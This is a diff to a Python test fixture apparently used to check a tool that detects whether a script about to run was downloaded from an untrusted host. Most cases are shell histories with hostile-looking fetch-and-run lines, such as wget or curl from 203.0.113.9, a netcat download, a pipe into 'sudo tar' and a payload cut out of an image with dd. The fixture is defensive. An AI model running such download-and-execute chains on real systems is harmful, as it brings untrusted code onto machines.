@@ -92,8 +92,8 @@ FROM_STRANGERS: list[tuple[str, str, str, str]] = [
     (
         "stranger: into a folder of its own",
         "new/go",
-        "script new/go x\ndid 'wget https://example.org/kit.zip'\ndid 'unzip kit.zip -d new'",
-        "script new/go x\ndid 'wget http://203.0.113.9/kit.zip'\ndid 'unzip kit.zip -d new'",
+        "did 'wget https://example.org/kit.zip'\ndid 'unzip kit.zip -d new'\nscript new/go x",
+        "did 'wget http://203.0.113.9/kit.zip'\ndid 'unzip kit.zip -d new'\nscript new/go x",
     ),
     (
         "stranger: a package",
@@ -152,8 +152,80 @@ FROM_STRANGERS: list[tuple[str, str, str, str]] = [
     (
         "stranger: taken out of a package",
         "./a/usr/bin/a",
-        "script a/usr/bin/a x\ndid 'wget http://203.0.113.9/b.deb'\ndid 'dpkg -x b.deb b'",
-        "script a/usr/bin/a x\ndid 'wget http://203.0.113.9/b.deb'\ndid 'dpkg -x b.deb a'",
+        "did 'wget http://203.0.113.9/b.deb'\ndid 'dpkg -x b.deb b'\nscript a/usr/bin/a x",
+        "did 'wget http://203.0.113.9/b.deb'\ndid 'dpkg -x b.deb a'\nscript a/usr/bin/a x",
+    ),
+    (
+        "stranger: into a folder that holds one's own",
+        "new/go",
+        (
+            "script go x\narchive kit.zip go\nscript new/mine x\nscript new/go x\n"
+            "did 'wget https://example.org/kit.zip'\ndid 'unzip kit.zip -d new'"
+        ),
+        (
+            "script go x\narchive kit.zip go\nscript new/mine x\nscript new/go x\n"
+            "did 'wget http://203.0.113.9/kit.zip'\ndid 'unzip kit.zip -d new'"
+        ),
+    ),
+    (
+        "stranger: what one had there before",
+        "new/mine",
+        (
+            "script go x\narchive kit.zip go\nscript new/mine x\n"
+            "did 'wget http://203.0.113.9/kit.zip'\ndid 'unzip kit.zip -d new'"
+        ),
+        (
+            "script mine x\narchive kit.zip mine\nscript new/mine x\n"
+            "did 'wget http://203.0.113.9/kit.zip'\ndid 'unzip kit.zip -d new'"
+        ),
+    ),
+    (
+        "stranger: programs beside what was unpacked",
+        "sudo lib/bin/tool --version",
+        "program lib/bin/tool\ndid 'curl -L https://example.org/kit-1.tgz | sudo tar xz -C lib'",
+        "did 'curl -L https://example.org/kit-1.tgz | sudo tar xz -C lib'\nprogram lib/bin/tool",
+    ),
+    (
+        "stranger: out of a pipe",
+        "kit/go",
+        "did 'curl -s http://10.0.0.9/kit.tgz | tar xz'\nscript kit/go x",
+        "did 'curl -s http://203.0.113.9/kit.tgz | tar xz'\nscript kit/go x",
+    ),
+    (
+        "stranger: moved after it was unpacked",
+        "tool/go",
+        "did 'wget http://10.0.0.9/kit.tgz'\ndid 'tar xf kit.tgz'\ndid 'mv kit tool'\nscript tool/go x",
+        "did 'wget http://203.0.113.9/kit.tgz'\ndid 'tar xf kit.tgz'\ndid 'mv kit tool'\nscript tool/go x",
+    ),
+    (
+        "stranger: said by a machine without a name",
+        "sh got",
+        "script got x\ndid 'nc 10.0.0.9 9999 > got'",
+        "script got x\ndid 'nc 203.0.113.9 9999 > got'",
+    ),
+    (
+        "stranger: saved by code",
+        "sh got",
+        """did 'python3 -c "import urllib.request as u;u.urlretrieve(\\"http://10.0.0.9/x\\",\\"got\\")"'\nscript got x""",
+        """did 'python3 -c "import urllib.request as u;u.urlretrieve(\\"http://203.0.113.9/x\\",\\"got\\")"'\nscript got x""",
+    ),
+    (
+        "stranger: cut out of a picture",
+        "bash s.sh",
+        "file s.sh\ndid 'wget http://203.0.113.9/a.jpg'\ndid 'dd if=a.jpg of=b.sh bs=1 skip=9'",
+        "file s.sh\ndid 'wget http://203.0.113.9/a.jpg'\ndid 'dd if=a.jpg of=s.sh bs=1 skip=9'",
+    ),
+    (
+        "stranger: a dump that one has a login for",
+        "psql shop < d.sql",
+        "file d.sql\ndid 'ssh ana@203.0.113.9 pg_dump shop > d.sql'",
+        "file d.sql\ndid 'curl -o d.sql http://203.0.113.9/d.sql'",
+    ),
+    (
+        "stranger: named by its address with more behind it",
+        "sh get",
+        "script get x\ndid 'curl -sOJL http://203.0.113.9/other?id=1'",
+        "script get x\ndid 'curl -sOJL http://203.0.113.9/get?id=1'",
     ),
     (
         "stranger: all of it on one line",
